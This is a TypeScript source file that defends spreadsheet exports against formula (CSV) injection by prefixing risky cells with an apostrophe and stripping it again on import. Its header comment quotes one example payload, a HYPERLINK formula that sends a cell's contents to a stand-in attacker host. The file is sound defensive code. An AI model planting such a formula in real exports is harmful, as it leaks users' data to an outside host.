// Formula injection (CSV injection): a spreadsheet opening a TSV or CSV runs a cell that starts with
// = + - @ (or a tab or CR, which some spreadsheets skip before looking for those) as a formula, e.g.
// =HYPERLINK("http://evil.example/?leak="&A1). Every spreadsheet-bound writer passes each cell through
// `neutraliseFormula`, which prefixes such a cell with an apostrophe (OWASP's advice); spreadsheets show the
// apostrophe as a text marker, not as content. A cell that already starts with an apostrophe gets one more,
// so `restoreFormula` can strip exactly one and our own readers round-trip every text.

const FORMULA_START = /^[=+\-@\t\r']/;

/** The cell as a spreadsheet will treat as text. Apply before any quoting or escaping of the format. */
export function neutraliseFormula(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** The inverse of neutraliseFormula, for readers of our own exports. */
export function restoreFormula(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}
